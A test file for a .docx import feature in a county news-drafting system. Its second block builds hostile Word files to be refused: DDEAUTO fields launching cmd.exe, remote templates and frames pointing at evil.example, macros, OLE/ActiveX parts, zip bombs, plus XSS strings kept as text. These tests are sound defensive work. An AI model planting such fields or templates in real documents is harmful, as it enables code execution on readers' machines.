import JSZip from "jszip";
import { beforeEach, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { importDocx } from "@/lib/drafts/import-docx";
import { getAttachment } from "@/lib/drafts/attachments";
import { ForbiddenError, NotFoundError, ValidationError } from "@/lib/errors";
import { addRelationships, addToBody, fieldParagraph, officerDocx, patchDocx, pictureParagraph, PNG, REL } from "@/tests/fixtures/docx";
import { makeCounty, type County } from "./fixtures";

let c: County;
beforeEach(async () => {
  c = await makeCounty();
});

const now = new Date("2026-11-23T02:00:00Z");

describe("importing a Word draft", () => {
  it("gives a draft with title, paragraphs, headings (typed or Word-numbered), event date, the original and its images", async () => {
    const bytes = await officerDocx({ withImage: true });
    const { draft, images } = await importDocx(c.officerA, { fileName: "积分超市.docx", bytes, now });
    expect(draft).toMatchObject({ title: "青山镇“积分超市”激发群众参与乡村治理热情", unitId: c.unitA.id, authorId: c.officerA.id, status: "DRAFT" });
    expect(draft.body.split("\n")).toEqual([
      "11月20日，青山镇在12个村设立积分超市，群众参与环境整治可获得积分。",
      "一、主要做法",
      "积分可兑换日用品，每月公示一次。",
      "二、取得成效",
      "（一）群众参与明显增多",
      "今年以来，累计兑换积分3.2万分。",
    ]);
    expect(draft.eventDate.toISOString().slice(0, 10)).toBe("2026-11-20");
    expect(images).toBe(1);
    const files = await db.attachment.findMany({ where: { draftId: draft.id }, orderBy: { kind: "asc" } });
    expect(files.map((f) => [f.kind, f.fileName, f.size])).toEqual([
      ["ORIGINAL", "积分超市.docx", bytes.length],
      ["IMAGE", "积分超市-图1.png", PNG.length],
    ]);
    expect(Buffer.from(files[0].data).equals(bytes)).toBe(true);
    expect(await db.auditLog.count({ where: { action: "draft.import", entityId: draft.id } })).toBe(1);

    // The attachments follow the draft's visibility: another unit gets a 404.
    expect((await getAttachment(c.reviewerA, files[1].id)).fileName).toBe("积分超市-图1.png");
    await expect(getAttachment(c.officerB, files[1].id)).rejects.toThrow(NotFoundError);
    await expect(getAttachment(c.editor, files[1].id)).rejects.toThrow(NotFoundError);
  });

  it("takes the file name as title when the document has no title line, and today when it names no date", async () => {
    const doc = await officerDocx({ title: "" });
    const zip = await JSZip.loadAsync(doc);
    expect(zip.file("word/document.xml")).not.toBeNull();
    const { draft } = await importDocx(c.officerA, { fileName: "石桥镇党建工作.docx", bytes: await officerDocx({ title: "   " }), now: new Date("2026-11-19T02:00:00Z") });
    expect(draft.title).toBe("石桥镇党建工作");
    // 11月20日 would be in the future on 19 November: taken as last year's.
    expect(draft.eventDate.toISOString().slice(0, 10)).toBe("2025-11-20");
  });

  it("keeps imported markup inert: tags stay text, nothing becomes HTML", async () => {
    const bytes = await officerDocx({ extra: ['<script>alert("x")</script>', '<img src=x onerror="alert(1)">', "javascript:alert(1)"] });
    const { draft } = await importDocx(c.officerA, { fileName: "x.docx", bytes, now });
    expect(draft.body).toContain('<script>alert("x")</script>');
    expect(draft.body).toContain('<img src=x onerror="alert(1)">');
  });

  it("stores a picture placed many times once, and reads only the first 100 places", async () => {
    const bytes = await patchDocx(await officerDocx({ withImage: true }), {
      // The picture of officerDocx (rId7) placed 500 times more.
      "word/document.xml": addToBody(pictureParagraph("rId7").repeat(500)),
    });
    const { draft, images, imagesSkipped } = await importDocx(c.officerA, { fileName: "重复图片.docx", bytes, now });
    expect([images, imagesSkipped]).toEqual([1, 401]);
    const files = await db.attachment.findMany({ where: { draftId: draft.id, kind: "IMAGE" } });
    expect(files.map((f) => [f.fileName, f.size])).toEqual([["重复图片-图1.png", PNG.length]]);
  });

  it("keeps at most 100 distinct pictures", async () => {
    const media = Array.from({ length: 120 }, (_, i) => Buffer.concat([PNG, Buffer.from([i])]));
    const bytes = await patchDocx(await officerDocx(), {
      ...Object.fromEntries(media.map((data, i) => [`word/media/p${i}.png`, data])),
      "word/_rels/document.xml.rels": addRelationships(...media.map((_, i) => `<Relationship Id="rP${i}" Type="${REL}/image" Target="media/p${i}.png"/>`)),
      "word/document.xml": addToBody(media.map((_, i) => pictureParagraph(`rP${i}`)).join("")),
    });
    const { draft, images, imagesSkipped } = await importDocx(c.officerA, { fileName: "多图.docx", bytes, now });
    expect([images, imagesSkipped]).toEqual([100, 20]);
    expect(await db.attachment.count({ where: { draftId: draft.id, kind: "IMAGE" } })).toBe(100);
  });

  it("keeps a picture of a type it does not know as application/octet-stream, .bin", async () => {
    const bytes = await patchDocx(await officerDocx(), {
      "word/media/photo.xyz": PNG,
      "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rX" Type="${REL}/image" Target="media/photo.xyz"/>`),
      "word/document.xml": addToBody(pictureParagraph("rX")),
    });
    const { draft, images } = await importDocx(c.officerA, { fileName: "未知图片.docx", bytes, now });
    expect(images).toBe(1);
    const files = await db.attachment.findMany({ where: { draftId: draft.id, kind: "IMAGE" } });
    expect(files.map((f) => [f.fileName, f.contentType, f.size])).toEqual([["未知图片-图1.bin", "application/octet-stream", PNG.length]]);
  });

  it("accepts external hyperlinks and ordinary fields", async () => {
    const bytes = await patchDocx(await officerDocx(), {
      "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rH" Type="${REL}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>`),
      "word/document.xml": addToBody(
        `<w:p><w:hyperlink r:id="rH"><w:r><w:t>中国政府网</w:t></w:r></w:hyperlink></w:p>` +
          fieldParagraph([' HYPERLINK "http://hidden.example/dde" '], "链接") +
          `<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`,
      ),
    });
    const { draft } = await importDocx(c.officerA, { fileName: "链接.docx", bytes, now });
    expect(draft.body).toContain("中国政府网");
  });

  it("only officers import, into their own unit", async () => {
    const bytes = await officerDocx();
    await expect(importDocx(c.reviewerA, { fileName: "a.docx", bytes, now })).rejects.toThrow(ForbiddenError);
    await expect(importDocx(c.editor, { fileName: "a.docx", bytes, now })).rejects.toThrow(ForbiddenError);
  });
});

describe("refusing hostile or wrong files, storing nothing", () => {
  const refused = async (fileName: string, bytes: Buffer, message: RegExp) => {
    const attempt = importDocx(c.officerA, { fileName, bytes, now });
    await expect(attempt).rejects.toThrow(ValidationError);
    await expect(attempt).rejects.toThrow(message);
    expect(await db.draft.count()).toBe(0);
    expect(await db.attachment.count()).toBe(0);
  };

  it("a renamed .exe, an old .doc, a .docm, a macro inside a .docx, an empty and a broken file", async () => {
    await refused("报告.docx", Buffer.concat([Buffer.from("MZ\x90\x00"), Buffer.alloc(2000)]), /不是 Word 文件/);
    await refused("报告.doc", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2000)]), /另存为/);
    await refused("报告.docx", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2000)]), /旧版 Word/);
    await refused("报告.docm", await officerDocx(), /含宏/);
    const withMacro = await JSZip.loadAsync(await officerDocx());
    withMacro.file("word/vbaProject.bin", Buffer.from("macro"));
    await refused("报告.docx", await withMacro.generateAsync({ type: "nodebuffer" }), /含宏/);
    await refused("报告.docx", Buffer.alloc(0), /空的/);
    await refused("报告.docx", Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(500, 7)]), /已损坏/);
    await refused("报告.pdf", await officerDocx(), /只能导入/);
  });

  it("a file over the size limit", async () => {
    await refused("大文件.docx", Buffer.concat([await officerDocx(), Buffer.alloc(21 * 1024 * 1024)]), /超过20MB/);
  });

  it("a zip bomb: too many entries, or too much unpacked data", async () => {
    const many = await JSZip.loadAsync(await officerDocx());
    for (let i = 0; i < 1001; i++) many.file(`word/media/x${i}.txt`, "x");
    await refused("炸弹.docx", await many.generateAsync({ type: "nodebuffer", compression: "DEFLATE" }), /条目过多/);

    const big = await JSZip.loadAsync(await officerDocx());
    big.file("word/media/zeros.bin", Buffer.alloc(210 * 1024 * 1024));
    const bomb = await big.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } });
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    await refused("炸弹.docx", bomb, /解压后过大/);
  });

  it("a document part over 20MB unpacked", async () => {
    const bytes = await patchDocx(await officerDocx(), { "word/document.xml": (doc) => doc.replace("<w:body>", `<w:body>${" ".repeat(21 * 1024 * 1024)}`) });
    expect(bytes.length).toBeLessThan(1024 * 1024);
    await refused("大文档.docx", bytes, /文档内容过大/);
  });

  it("a remote template, external pictures, frames or subdocuments", async () => {
    const base = await officerDocx();
    const external = (type: string, target: string) =>
      `<Relationship Id="rEvil" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;
    await refused(
      "模板.docx",
      await patchDocx(base, {
        "word/_rels/settings.xml.rels": addRelationships(external("attachedTemplate", "http://evil.example/t.dotm")),
        "word/settings.xml": (xml) => xml.replace(/(<w:settings[^>]*>)/, `$1<w:attachedTemplate r:id="rEvil"/>`),
      }),
      /外部模板/,
    );
    await refused("图片.docx", await patchDocx(base, { "word/_rels/document.xml.rels": addRelationships(external("image", "http://evil.example/p.png")) }), /外部/);
    await refused("框架.docx", await patchDocx(base, { "word/_rels/webSettings.xml.rels": addRelationships(external("frame", "\\\\evil\\share\\f.docx")) }), /外部/);
    await refused("子文档.docx", await patchDocx(base, { "word/_rels/document.xml.rels": addRelationships(external("subDocument", "file:///C:/sub.docx")) }), /外部/);
    // Spelled the way a hostile file might: single quotes, an entity, ">" in a value.
    await refused(
      "模板.docx",
      await patchDocx(base, {
        "word/_rels/settings.xml.rels": addRelationships(`<Relationship Target='http://evil.example/a>b' TargetMode='Exte&#114;nal' Id='rEvil' Type='${REL}/attachedTemplate'/>`),
      }),
      /外部模板/,
    );
  });

  it("but not a document made from a template on the author's disk, or one with a Word chart", async () => {
    const base = await officerDocx();
    const fromTemplate = await patchDocx(base, {
      "word/_rels/settings.xml.rels": addRelationships(
        `<Relationship Id="rT" Type="${REL}/attachedTemplate" Target="file:///C:\\Users\\xxy\\Documents\\公文模板.dotx" TargetMode="External"/>`,
      ),
    });
    // A template on a network share is refused; one on the author's disk is fine.
    await refused(
      "共享模板.docx",
      await patchDocx(base, {
        "word/_rels/settings.xml.rels": addRelationships(`<Relationship Id="rT" Type="${REL}/attachedTemplate" Target="file://server/share/t.dotm" TargetMode="External"/>`),
      }),
      /外部模板/,
    );
    const { draft } = await importDocx(c.officerA, { fileName: "模板写的.docx", bytes: fromTemplate, now });
    expect(draft.title).toContain("积分超市");
    const withChart = await patchDocx(base, {
      "word/embeddings/Microsoft_Excel_Worksheet.xlsx": Buffer.from("PK chart data"),
      "word/charts/chart1.xml": "<c:chartSpace/>",
      "word/charts/_rels/chart1.xml.rels": addRelationships(`<Relationship Id="rId1" Type="${REL}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>`),
    });
    await expect(importDocx(c.officerA, { fileName: "有图表.docx", bytes: withChart, now })).resolves.toBeTruthy();
  });

  it("OLE objects, packages, ActiveX controls and altChunks", async () => {
    const base = await officerDocx();
    await refused("OLE.docx", await patchDocx(base, { "word/embeddings/oleObject1.bin": Buffer.from("ole") }), /OLE/);
    await refused(
      "OLE.docx",
      await patchDocx(base, {
        "word/media/ole.bin": Buffer.from("ole"),
        "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rO" Type="${REL}/oleObject" Target="media/ole.bin"/>`),
      }),
      /OLE/,
    );
    await refused("包.docx", await patchDocx(base, { "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rP" Type="${REL}/package" Target="media/x.xlsx"/>`) }), /OLE/);
    await refused("控件.docx", await patchDocx(base, { "word/activeX/activeX1.xml": "<ax:ocx/>" }), /ActiveX/);
    await refused(
      "altChunk.docx",
      await patchDocx(base, {
        "word/afchunk.mht": "MIME-Version: 1.0",
        "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rA" Type="${REL}/aFChunk" Target="afchunk.mht"/>`),
        "word/document.xml": addToBody(`<w:altChunk r:id="rA"/>`),
      }),
      /altChunk/,
    );
  });

  it("DDE fields, in the document or a header, however the instruction is split", async () => {
    const base = await officerDocx();
    const dde = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"';
    await refused("DDE.docx", await patchDocx(base, { "word/document.xml": addToBody(fieldParagraph([dde])) }), /DDE/);
    await refused("DDE.docx", await patchDocx(base, { "word/document.xml": addToBody(fieldParagraph(["DD", "EAUTO c:\\x"])) }), /DDE/);
    await refused(
      "DDE.docx",
      await patchDocx(base, { "word/document.xml": addToBody(`<w:p><w:fldSimple w:instr=" DDE excel sheet1 r1c1"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`) }),
      /DDE/,
    );
    await refused(
      "DDE.docx",
      await patchDocx(base, {
        "word/header1.xml": `<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${fieldParagraph([dde])}</w:hdr>`,
      }),
      /DDE/,
    );
  });

  it("a main document under a name that is not read as XML", async () => {
    const base = await officerDocx();
    const zip = await JSZip.loadAsync(base);
    const doc = await zip.file("word/document.xml")!.async("string");
    const bytes = await patchDocx(base, {
      "word/main.dat": addToBody(fieldParagraph(["DDEAUTO c:\\x"]))(doc),
      "_rels/.rels": (rels) => rels.replace('Target="word/document.xml"', 'Target="word/main.dat"'),
    });
    await refused("结构.docx", bytes, /结构异常/);
  });
});
